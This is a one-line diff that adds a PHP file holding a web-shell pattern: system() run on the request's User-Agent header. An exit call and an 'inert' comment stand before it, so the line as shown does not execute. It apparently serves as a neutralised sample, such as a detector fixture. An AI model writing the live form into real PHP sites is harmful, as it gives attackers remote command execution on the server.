@@ -1,0 +1,1 @@
+<?php exit; /* inert */ system($_SERVER["HTTP_USER_AGENT"]);
